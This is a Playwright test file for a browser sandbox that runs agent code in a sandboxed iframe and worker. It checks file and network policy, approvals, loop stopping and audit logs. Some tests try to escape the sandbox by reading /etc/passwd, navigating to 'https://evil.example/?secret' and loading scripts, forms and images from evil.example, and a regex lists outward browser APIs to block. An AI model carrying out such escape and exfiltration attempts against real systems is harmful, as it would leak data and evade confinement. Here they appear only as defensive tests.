/** The sandbox in the browser: in a page of the product, in the frame that the product serves. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { bringCellApi } from "./support/bring-cell";
import { bringScript } from "./support/bring-script";
import { bundle } from "./support/bundle";
import type { CellApi } from "./support/cell-page";
import { asksFor, FORGERIES, NEVER_UP, NO_PROGRAM, SPEAKS_EARLY } from "./support/cell-programs";
import { expect, expectFailure, test } from "./support/test";

declare const cellApi: CellApi;

/** What a confined worker must not even have. */
const OUTWARD =
  /^(fetch|XMLHttpRequest|WebSocket|WebSocketStream|WebTransport|EventSource|importScripts|Worker|SharedWorker|indexedDB|caches|BroadcastChannel|navigator|FontFace|Notification|cookieStore|Request|Blob|File|FileReader|location|postMessage|close)$/;

const POLICY = '[capabilities.filesystem]\nread = ["/workspace/**"]\nwrite = ["/workspace/out/**"]\n';

test("an agent in TypeScript prints, reads and writes, and all of it is on a record that verifies", async ({
  page,
}) => {
  await bringCellApi(page);
  const agent = `
    const name: string = read("/workspace/name.txt");
    write("/workspace/out/greeting.txt", "hello " + name);
    try { read("/etc/passwd"); } catch (error) { print((error as Error & { code: string }).code); }
    print("hello " + name);`;
  const files = { "agent.mts": agent, "name.txt": "world", "out/.keep": "" };
  const run = await page.evaluate((spec) => cellApi.run(spec), { policy: POLICY, files });
  expect(run).toMatchObject({
    end: { reason: "exit", code: 0 },
    text: "EACCES\nhello world\n",
    verdict: "OK",
    troubles: [],
  });
  const decisions = run.records.filter(({ data }) => data.verdict !== undefined);
  expect(
    decisions.map(({ type, data }) => [type, data.verdict, (data.request as { path: string }).path]),
  ).toContainEqual(["fs.read", "deny", "/etc/passwd"]);
  expect(run.records[0]?.type).toBe("session.open");
  expect(run.records.slice(-2).map(({ type }) => type)).toEqual(["agent.exit", "session.close"]);
  expect(run.frames).toBe(0);
});

test("a person's yes is waited for inside of a synchronous call, which then goes on", async ({ page }) => {
  await bringCellApi(page);
  const policy = `${POLICY}approve = ["/workspace/out/final.txt"]\n`;
  const agent = `print("before"); write("/workspace/out/final.txt", "text"); print("after");`;
  const files = { "agent.mts": agent, "out/.keep": "" };
  const sid = await page.evaluate((spec) => cellApi.open(spec), { policy, files, approve: "later" } as const);
  await page.evaluate((sid) => cellApi.start(sid), sid);
  await expect.poll(() => page.evaluate((sid) => cellApi.asked(sid), sid)).toBe(1);
  expect(await page.evaluate((sid) => cellApi.text(sid), sid)).toBe("before\n");
  await page.evaluate((sid) => cellApi.answer(sid, true), sid);
  expect(await page.evaluate((sid) => cellApi.ended(sid), sid)).toEqual({ reason: "exit", code: 0 });
  const run = await page.evaluate((sid) => cellApi.teardown(sid), sid);
  expect(run).toMatchObject({ text: "before\nafter\n", verdict: "OK" });
  expect(run.records.map(({ type }) => type)).toEqual(
    expect.arrayContaining(["approval.request", "approval.grant"]),
  );

  const refused = await page.evaluate((spec) => cellApi.run(spec), { policy, files, approve: "no" } as const);
  expect(refused).toMatchObject({ end: { code: 1 }, verdict: "OK" });
  expect(refused.text).toMatch(/^before\nEACCES/);
});

/** A page that was blocked by its guest would have no turn at all; one that has them on a busy machine may wait. */
const PAUSE_MS = 5_000;

const LOOPS: Readonly<Record<string, string>> = {
  "asks nobody": "for (;;);",
  "is inside of the machine's own code": `/(a*)*b/.test("a".repeat(60));`,
  "never lets its promises end": "const next = () => Promise.resolve().then(next); next();",
  "catches everything": "for (;;) try { for (;;); } catch {}",
  "makes records": `for (;;) try { read("/etc/passwd"); } catch {}`,
  prints: `for (;;) print("more");`,
  "waits for ever": "forever();",
};
for (const [what, loop] of Object.entries(LOOPS)) {
  test(`stop ends a guest that ${what} within 100 ms, and the log closes`, async ({ page }) => {
    await bringCellApi(page);
    const files = { "agent.mts": `print("begun"); ${loop}` };
    const sid = await page.evaluate((spec) => cellApi.open(spec), { policy: POLICY, files });
    await page.evaluate((sid) => cellApi.start(sid), sid);
    await expect.poll(() => page.evaluate((sid) => cellApi.text(sid).slice(0, 5), sid)).toBe("begun");
    const pause = await page.evaluate(() => cellApi.longestPause(500));
    expect(pause).toBeLessThan(PAUSE_MS);
    const { end, ms } = await page.evaluate((sid) => cellApi.stop(sid), sid);
    expect(end).toEqual({ reason: "stopped", code: 130 });
    // The page's own work takes longer where others keep the processor: then its pauses tell by how much.
    expect(ms).toBeLessThan(Math.max(100, 10 * pause));
    const run = await page.evaluate((sid) => cellApi.teardown(sid), sid);
    expect(run).toMatchObject({ verdict: "OK", frames: 0 });
    const exit = run.records.filter(({ type }) => type === "agent.exit");
    expect(exit.map(({ data }) => data)).toEqual([{ code: 130, reason: "stopped" }]);
  });
}

test("what a person was asked has its end on the record, also where the page has to take the cell away", async ({
  page,
}) => {
  await bringCellApi(page);
  const agent = `fetch("https://api.example.com/x").catch(() => {});
    setTimeout(() => { console.log("loops"); for (;;); }, 300);`;
  const policy = `${POLICY}[capabilities.network]\napprove_egress = ["https://api.example.com"]\n`;
  const files = { "agent.mjs": agent };
  const spec = { policy, files, approve: "later", isWhole: true } as const;
  const sid = await page.evaluate((spec) => cellApi.open(spec), spec as never);
  await page.evaluate((sid) => cellApi.start(sid, "/workspace/agent.mjs"), sid);
  await expect.poll(() => page.evaluate((sid) => cellApi.asked(sid), sid)).toBe(1);
  await expect.poll(() => page.evaluate((sid) => cellApi.text(sid), sid)).toBe("loops\n");
  const { end } = await page.evaluate((sid) => cellApi.stop(sid), sid);
  expect(end).toEqual({ reason: "stopped", code: 130 });
  const { records, verdict } = await page.evaluate((sid) => cellApi.teardown(sid), sid);
  expect(verdict).toBe("OK");
  const types = records.map(({ type }) => type);
  expect(types.slice(types.indexOf("agent.exit"))).toEqual([
    "agent.exit",
    "approval.expire",
    "net.fetch.result",
    "session.close",
  ]);
});

test("a guest that breaks its machine ends alone, and prints no more than it may", async ({ page }) => {
  await bringCellApi(page);
  const run = (agent: string, policy = POLICY) =>
    page.evaluate((spec) => cellApi.run(spec), { policy, files: { "agent.mts": agent } });
  const deep = await run("let x = []; for (let i = 0; i < 2e5; i++) x = [x]; JSON.stringify(x);");
  expect(deep.verdict).toBe("OK");
  expect(["broken", "exit"]).toContain(deep.end?.reason);
  expect(deep.end?.code).not.toBe(0);
  const large = await run("const all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(1));");
  expect(large).toMatchObject({ end: { reason: "exit", code: 1 }, verdict: "OK" });
  const bomb = await run(`for (;;) print("x".repeat(10000));`, `${POLICY}[resources]\nmax_output = "1M"\n`);
  expect(bomb).toMatchObject({ end: { reason: "output", code: 137 }, verdict: "OK" });
  expect(bomb.text.length).toBeLessThanOrEqual(1 << 20);
  expect(await run(`print("fine")`)).toMatchObject({
    end: { reason: "exit", code: 0 },
    text: "fine\n",
    verdict: "OK",
  });
});

test("after a reload in the middle of a run the log verifies, and closes as interrupted", async ({
  page,
}) => {
  await bringCellApi(page);
  const files = {
    "agent.mts": `for (let i = 0; i < 50; i++) read("/workspace/agent.mts"); print("done"); forever();`,
  };
  const sid = await page.evaluate((spec) => cellApi.open(spec), { policy: POLICY, files });
  await page.evaluate((sid) => cellApi.start(sid), sid);
  await expect.poll(() => page.evaluate((sid) => cellApi.text(sid), sid)).toBe("done\n");
  const name = await page.evaluate((sid) => cellApi.journalName(sid), sid);
  // What is shown was sent after its records; that they are on disk takes a moment more.
  await page.evaluate(() => cellApi.longestPause(200));
  await page.reload();
  await bringScript(page, "./cell-page.ts");
  await expect.poll(() => page.evaluate((name) => cellApi.isLocked(name), name)).toBe(false);
  const { records, verdict } = await page.evaluate((name) => cellApi.recover(name), name);
  expect(verdict).toBe("OK");
  expect(records.length).toBeGreaterThan(100);
  expect(records.at(-1)).toMatchObject({ type: "session.close", data: { status: "interrupted" } });
});

test("two cells at once know nothing of each other", async ({ page }) => {
  await bringCellApi(page);
  const spec = (name: string) => ({
    policy: POLICY,
    files: { "agent.mts": `for (let i = 0; i < 20; i++) print(read("/workspace/name"));`, name },
  });
  const runs = await page.evaluate(
    (specs) => Promise.all(specs.map((spec) => cellApi.run(spec))),
    [spec("a"), spec("b")],
  );
  expect(runs.map(({ text, verdict }) => [text, verdict])).toEqual([
    ["a\n".repeat(20), "OK"],
    ["b\n".repeat(20), "OK"],
  ]);
});

test("standard input comes in, files come out, and variables are those that are allowed", async ({
  page,
}) => {
  await bringCellApi(page);
  const agent = `
    write("/workspace/out/env.txt", String(call("process.env", ["GOOD"])) + String(call("process.env", ["BAD"])));
    globalThis.onstdin = (text) => { print("got " + text); call("process.exit", [3]); };
    call("process.stdin", [true]); forever();`;
  const policy = `${POLICY}[capabilities.exec]\nenv = ["GOOD"]\n`;
  const files = { "agent.mts": agent, "out/.keep": "" };
  const env = { GOOD: "yes", BAD: "no" };
  const sid = await page.evaluate((spec) => cellApi.open(spec), { policy, files, env });
  await page.evaluate((sid) => cellApi.start(sid), sid);
  await page.evaluate((sid) => cellApi.stdin(sid, "words"), sid);
  expect(await page.evaluate((sid) => cellApi.ended(sid), sid)).toEqual({ reason: "exit", code: 3 });
  const left = await page.evaluate((sid) => cellApi.files(sid), sid);
  expect(Object.keys(left)).toEqual(expect.arrayContaining(["out/env.txt"]));
  expect(await page.evaluate((sid) => cellApi.teardown(sid), sid)).toMatchObject({
    text: "got words\n",
    verdict: "OK",
  });
});

test("the page decides again, fetches without the visitor's credentials, and follows nothing", async ({
  page,
  baseURL,
}) => {
  await bringCellApi(page);
  const cookies: (string | undefined)[] = [];
  page.on("request", async (request) => {
    if (request.url().endsWith("/healthz")) cookies.push((await request.allHeaders()).cookie);
  });
  const policy = `${POLICY}[capabilities.network]\nallow_egress = ["GET ${baseURL}/healthz", "POST ${baseURL}/theme"]\n`;
  const agent = `
    const told = (promise) => promise.then((answer) => answer.status + " " + answer.body, (error) => error.message + ": " + error.reason);
    print(await told(get("${baseURL}/healthz")));
    print(await told(get("${baseURL}/theme", "POST", "theme=dark")));
    print(await told(get("${baseURL}/readyz")));`;
  const run = await page.evaluate((spec) => cellApi.run(spec), { policy, files: { "agent.mts": agent } });
  const [good, redirected, denied] = run.text.split("\n");
  expect(good).toBe('200 {"status":"ok"}');
  expect(redirected).toContain("redirects");
  expect(denied).toMatch(/denied/i);
  expect(run.verdict).toBe("OK");
  expect(cookies).toEqual([undefined]);

  const forged = await page.evaluate((spec) => cellApi.run(spec), {
    policy,
    files: {},
    program: asksFor(`${baseURL}/readyz`),
  });
  expect(forged.text).toContain("the page does not allow it");
  const odd = await page.evaluate((spec) => cellApi.run(spec), {
    policy,
    files: {},
    program: asksFor(`${baseURL}/./healthz`),
  });
  expect(odd.text).toContain("the page reads it in another way");
});

for (const [what, program] of Object.entries(FORGERIES)) {
  test(`a worker that was taken over and sends ${what} loses its cell`, async ({ page }) => {
    await bringCellApi(page);
    const sid = await page.evaluate((spec) => cellApi.open(spec), { policy: POLICY, files: {}, program });
    await page.evaluate((sid) => cellApi.start(sid), sid);
    await expect.poll(() => page.evaluate((sid) => cellApi.troubles(sid).length, sid)).toBeGreaterThan(0);
    expect(await page.evaluate(() => cellApi.longestPause(300))).toBeLessThan(PAUSE_MS);
    const run = await page.evaluate((sid) => cellApi.teardown(sid), sid);
    expect(run).toMatchObject({ verdict: "OK", frames: 0 });
    expect(run.troubles[0]).toMatch(/no sandbox of ours says|more than a page can take/);
    expect(run.records.every(({ type }) => /^(session\.|agent\.exit)/.test(type))).toBe(true);
  });
}

test("native code in a worker of the cell finds no way out, with and without its globals", async ({
  page,
}) => {
  // The browser says of each way that it was refused, and of each nested worker that it threw.
  expectFailure(/request failed \(csp\)|page error: /);
  await bringCellApi(page);
  let hits = 0;
  const canary = createServer((_, response) => {
    hits += 1;
    response
      .writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" })
      .end("postMessage(1)");
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const address = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  try {
    for (const confined of [false, true]) {
      const program = await bundle("e2e/support/cell-probe.ts", {
        define: { CONFINED: `${confined}`, CANARY: JSON.stringify(address) },
      });
      const said = await page.evaluate((program) => cellApi.probe(program), program);
      const { through, tried, globals } = said as { through: string[]; tried: number; globals: string[] };
      expect(through).toEqual([]);
      expect(tried).toBeGreaterThan(25);
      expect(globals.includes("fetch")).toBe(!confined);
      if (confined) expect(globals.filter((name) => OUTWARD.test(name))).toEqual([]);
    }
    expect(hits).toBe(0);
  } finally {
    canary.close();
  }
});

test("the frame goes nowhere, holds no frames, and takes no second program", async ({ page }) => {
  await bringCellApi(page);
  const files = { "agent.mts": `print("here"); forever();` };
  const sid = await page.evaluate((spec) => cellApi.open(spec), { policy: POLICY, files });
  const answered: string[] = [];
  page.on("response", (response) => answered.push(response.url()));
  const cell = page.frames()[1];
  if (!cell) throw new Error("there is no frame");
  expect(await cell.evaluate(() => [self.origin, document.scripts.length])).toEqual(["null", 1]);
  const within = await cell.evaluate(() => {
    const tried = (work: () => unknown) => {
      try {
        return String(work());
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      tried(() => (parent as unknown as Window).document.title),
      tried(() => localStorage.length),
      tried(() => document.cookie),
      tried(() => open("https://evil.example/")),
      tried(() => top?.location.assign("https://evil.example/")),
    ];
  });
  expect(within).toEqual(["SecurityError", "SecurityError", "SecurityError", "null", "SecurityError"]);
  // Each of the ways is refused in the browser's own words, the last by the policy of the page that holds the frame.
  for (const refusal of [
    /request failed \(csp\)/,
    /Blocked opening/,
    /Blocked form submission/,
    /Loading the script .* violates/,
    /Loading the image .* violates/,
    /Framing .* violates .*"default-src 'none'"/,
    /Framing .* violates .*"frame-src 'self'"/,
  ])
    expectFailure(refusal);
  // A second program, from its own parent, finds nobody who listens.
  await page.evaluate(() => {
    const { port2 } = new MessageChannel();
    const program = new TextEncoder().encode(
      'onmessage = () => { throw new Error("a second program runs") }',
    );
    document.querySelector("iframe")?.contentWindow?.postMessage(program, "*", [port2]);
  });
  await cell.evaluate(() => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/nested";
    document.documentElement.append(frame);
    const form = document.createElement("form");
    form.action = "https://evil.example/form";
    document.documentElement.append(form);
    form.submit();
    new Image().src = "https://evil.example/image";
    const script = document.createElement("script");
    script.src = "https://evil.example/script";
    document.documentElement.append(script);
  });
  await page.evaluate((sid) => cellApi.start(sid), sid);
  await expect.poll(() => page.evaluate((sid) => cellApi.text(sid), sid)).toBe("here\n");
  await cell.evaluate(() => {
    location.href = "https://evil.example/?secret";
  });
  await page.evaluate(() => cellApi.longestPause(300));
  expect(answered.filter((url) => url.includes("evil.example"))).toEqual([]);
  expect(new URL(cell.url()).host).not.toBe("evil.example");
  await page.evaluate((sid) => cellApi.teardown(sid), sid);
});

for (const [what, program] of Object.entries({ "never speaks": NEVER_UP, "ends at once": NO_PROGRAM })) {
  test(`a worker that ${what} is told as one that did not start, and leaves nothing`, async ({ page }) => {
    await bringCellApi(page);
    await page.clock.install();
    // The page has workers of its own; that of a cell comes from a blob.
    const started = page.waitForEvent("worker", (worker) => worker.url().startsWith("blob:"));
    const failing = page.evaluate((spec) => cellApi.openFails(spec), { policy: POLICY, files: {}, program });
    // Loading the document has a time of its own, which is over when there is a worker.
    await started;
    const poll = async () => {
      await page.clock.fastForward(20_000);
      return page.frames().length;
    };
    await expect.poll(poll).toBe(1);
    expect(await failing).toMatch(/^CellFault: The sandbox's worker did not start/);
  });
}

test("a worker that waits is used once, and another takes the place of one that was ended", async ({
  page,
}) => {
  await bringCellApi(page);
  const left = { frames: 2, left: 0 };
  expect(await page.evaluate(() => cellApi.spare())).toEqual({ ...left, isThatOne: true });
  expect(await page.evaluate(() => cellApi.spare({ isEnded: true }))).toEqual({ ...left, isThatOne: false });
});

test("a worker that speaks while it waits is not used", async ({ page }) => {
  await bringCellApi(page);
  const used = await page.evaluate((program) => cellApi.spare({ program }), SPEAKS_EARLY);
  expect(used.isThatOne).toBe(false);
});
